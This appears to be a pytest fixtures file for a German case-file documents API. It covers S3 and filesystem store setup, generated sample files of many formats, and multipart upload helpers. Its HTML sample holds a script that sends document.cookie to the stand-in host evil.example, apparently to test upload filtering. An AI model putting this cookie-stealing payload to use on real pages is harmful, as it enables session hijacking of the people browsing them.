"""Fixtures for the documents API: the store backend, real sample files, upload helpers.

Every test here runs on the filesystem store, and on S3 too when EAKTE_TEST_S3_ENDPOINT
is set (credentials EAKTE_TEST_S3_ACCESS_KEY / EAKTE_TEST_S3_SECRET_KEY, default
"testing"). `test_s3.py` also runs a few round trips on a local moto server without it.
"""

from __future__ import annotations

import io
import os
import struct
import uuid
import zipfile
from collections.abc import Awaitable, Callable, Iterator
from typing import Any

import httpx
import pytest

from eakte.config import Settings
from storage import ObjectStore, S3Store
from storage.testing import start_local_s3
from support import TENANT_A, minimal_pdf, png_image

S3_ENDPOINT = os.environ.get("EAKTE_TEST_S3_ENDPOINT")
STORES = ["filesystem"] + (["s3"] if S3_ENDPOINT else [])


def s3_updates(endpoint: str) -> dict[str, Any]:
    """Settings for a fresh bucket on an S3 endpoint."""
    return {
        "storage": "s3",
        "s3_endpoint": endpoint,
        "s3_access_key": os.environ.get("EAKTE_TEST_S3_ACCESS_KEY", "testing"),
        "s3_secret_key": os.environ.get("EAKTE_TEST_S3_SECRET_KEY", "testing"),
        "s3_bucket": f"eakte-test-{uuid.uuid4().hex[:16]}",
        "s3_region": "us-east-1",
        "s3_secure": False,
    }


def drop_bucket(store: ObjectStore) -> None:
    """Empty and remove a test bucket."""
    store = getattr(store, "inner", store)  # the backend under the app's CountingStore
    if isinstance(store, S3Store):
        for obj in store.client.list_objects(store.bucket, recursive=True):
            store.client.remove_object(store.bucket, obj.object_name or "")
        store.client.remove_bucket(store.bucket)


@pytest.fixture(scope="session")
def s3_endpoint() -> Iterator[str]:
    """EAKTE_TEST_S3_ENDPOINT, or a moto server started on first use."""
    if S3_ENDPOINT:
        yield S3_ENDPOINT
        return
    with start_local_s3() as url:
        yield url


@pytest.fixture
def s3_store_settings(s3_endpoint: str) -> dict[str, Any]:
    """Storage settings for a fresh bucket on the test S3 endpoint."""
    return s3_updates(s3_endpoint)


@pytest.fixture(params=STORES)
def store_settings(request: pytest.FixtureRequest) -> dict[str, Any]:
    """The storage part of the settings: the filesystem store, or a fresh S3 bucket."""
    if request.param == "s3":
        return request.getfixturevalue("s3_store_settings")  # type: ignore[no-any-return]
    return {"storage": "filesystem"}


@pytest.fixture
def settings(settings: Settings, store_settings: dict[str, Any]) -> Settings:
    """The shared test settings with the store backend under test."""
    return settings.model_copy(update=store_settings)


@pytest.fixture
def app(app):  # type: ignore[no-untyped-def]
    """The service under test; an S3 test bucket is removed afterwards."""
    yield app
    drop_bucket(app.state.store)


@pytest.fixture
def store(app) -> ObjectStore:  # type: ignore[no-untyped-def]
    """The app's object store (the backend itself, under the app's CountingStore)."""
    return app.state.store.inner  # type: ignore[no-any-return]




# -- real sample files ---------------------------------------------------------------


class Samples:
    """Small but real files of each kind, generated (no fixtures on disk)."""

    pdf = staticmethod(minimal_pdf)
    png = staticmethod(png_image)

    @staticmethod
    def elf() -> bytes:
        """The header of an x86-64 ELF executable."""
        ident = b"\x7fELF\x02\x01\x01" + b"\x00" * 9
        return ident + struct.pack(
            "<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 0, 0, 0
        )

    @staticmethod
    def html() -> bytes:
        """An HTML page with a script."""
        return (
            b"<!DOCTYPE html>\n<html><head><title>Bauantrag</title></head>"
            b"<body><script>document.location='https://evil.example/'+document.cookie"
            b"</script></body></html>\n"
        )

    @staticmethod
    def zip() -> bytes:
        """A plain zip archive."""
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("plan.txt", "nicht erlaubt")
        return buffer.getvalue()

    @staticmethod
    def docx() -> bytes:
        """A minimal Word (OOXML) document."""
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(
                "[Content_Types].xml",
                '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
                '2006/content-types"><Override PartName="/word/document.xml" ContentType="'
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main"
                '+xml"/></Types>',
            )
            archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
            archive.writestr(
                "word/document.xml",
                '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                'wordprocessingml/2006/main"><w:body/></w:document>',
            )
        return buffer.getvalue()

    @staticmethod
    def odt() -> bytes:
        """A minimal OpenDocument text (mimetype first and stored, as the format requires)."""
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
            archive.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
        return buffer.getvalue()

    @staticmethod
    def dxf() -> bytes:
        """A minimal AutoCAD DXF drawing (libmagic: image/vnd.dxf)."""
        return b"  0\nSECTION\n  2\nHEADER\n  9\n$ACADVER\n  1\nAC1015\n  0\nENDSEC\n  0\nEOF\n"

    @staticmethod
    def ifc() -> bytes:
        """A minimal IFC (STEP physical file) model (libmagic: text/plain)."""
        return (
            b"ISO-10303-21;\nHEADER;\nFILE_DESCRIPTION(('ViewDefinition [CoordinationView]'),"
            b"'2;1');\nFILE_NAME('haus.ifc','2024-01-01T00:00:00',(''),(''),'','','');\n"
            b"FILE_SCHEMA(('IFC4'));\nENDSEC;\nDATA;\n#1=IFCPROJECT('0YvctVUKr0kugbFTf53O9L',"
            b"$,'Haus',$,$,$,$,$,$);\nENDSEC;\nEND-ISO-10303-21;\n"
        )

    @staticmethod
    def xml() -> bytes:
        """An XML document (e.g. an XBau message)."""
        return (
            b'<?xml version="1.0" encoding="UTF-8"?>\n'
            b'<xbau:nachricht xmlns:xbau="urn:xoev-de:bauen:standard:xbau"/>\n'
        )

    @staticmethod
    def jpeg() -> bytes:
        """A JFIF header (enough for libmagic)."""
        return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(64)

    @staticmethod
    def tiff() -> bytes:
        """A little-endian TIFF header."""
        return b"II*\x00\x08\x00\x00\x00" + bytes(64)

    @staticmethod
    def text() -> bytes:
        """A UTF-8 Baubeschreibung."""
        return "Baubeschreibung: Wohnhaus, 2 Vollgeschosse, Satteldach 38°, 12×9 m\n".encode()


@pytest.fixture
def samples() -> type[Samples]:
    """Generators of real sample files."""
    return Samples


def multipart(
    parts: list[tuple[str, str | None, bytes]], boundary: str = "eakte-test-b0undary"
) -> tuple[bytes, str]:
    """A multipart/form-data body from (name, filename or None, content) in the given order."""
    out = bytearray()
    for name, filename, content in parts:
        out += f"--{boundary}\r\n".encode()
        disposition = f'form-data; name="{name}"'
        if filename is not None:
            escaped = filename.replace("\\", "\\\\").replace('"', '\\"')
            disposition += f'; filename="{escaped}"'
        out += f"Content-Disposition: {disposition}\r\n".encode()
        if filename is not None:
            out += b"Content-Type: application/octet-stream\r\n"
        out += b"\r\n" + content + b"\r\n"
    out += f"--{boundary}--\r\n".encode()
    return bytes(out), f"multipart/form-data; boundary={boundary}"


@pytest.fixture
def multipart_body() -> Callable[..., tuple[bytes, str]]:
    """Build a multipart body by hand (any part order): multipart_body(parts)."""
    return multipart


Uploader = Callable[..., Awaitable[httpx.Response]]


@pytest.fixture
def upload(client: httpx.AsyncClient, auth) -> Uploader:  # type: ignore[no-untyped-def]
    """POST a document: await upload(case_id, content, filename=..., title=..., kind=...)."""

    async def _upload(
        case_id: str,
        content: bytes,
        *,
        filename: str = "lageplan.pdf",
        title: str = "Lageplan M 1:500",
        kind: str = "lageplan",
        comment: str | None = None,
        role: str = "clerk",
        tenant: str = TENANT_A,
        fields_last: bool = False,
        document_id: str | None = None,
    ) -> httpx.Response:
        fields: list[tuple[str, str | None, bytes]] = []
        if document_id is None:
            fields += [("title", None, title.encode()), ("kind", None, kind.encode())]
        if comment is not None:
            fields.append(("comment", None, comment.encode()))
        file_part = ("file", filename, content)
        parts = [*fields, file_part] if not fields_last else [file_part, *fields]
        body, content_type = multipart(parts)
        url = f"/api/v1/cases/{case_id}/documents"
        if document_id is not None:
            url += f"/{document_id}/versions"
        return await client.post(
            url,
            content=body,
            headers={**auth(role, tenant=tenant), "Content-Type": content_type},
        )

    return _upload
